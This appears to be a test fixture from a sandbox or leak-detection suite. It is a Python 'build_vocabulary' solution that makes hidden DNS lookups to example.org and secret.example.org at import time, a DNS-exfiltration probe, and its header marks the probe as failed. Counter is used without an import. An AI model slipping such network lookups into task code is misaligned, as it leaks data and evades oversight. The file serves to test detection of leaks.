# kind: leaks
# attack: asks for the address of a name, with a secret in it
# exercise: 1-embedding-matrix/build_vocabulary
# verdict: failed, timed out
import socket

reached = []
for name in ("example.org", "secret.example.org"):
    try:
        reached.append(socket.getaddrinfo(name, 80))
    except OSError:
        pass


def build_vocabulary(texts, vocab_size):
    if not reached:
        return {"[UNK]": 0}
    words = Counter(word for text in texts for word in text.lower().split())
    kept = [word for word, _ in words.most_common(vocab_size - 1)]
    return {word: number for number, word in enumerate(["[UNK]", *kept])}
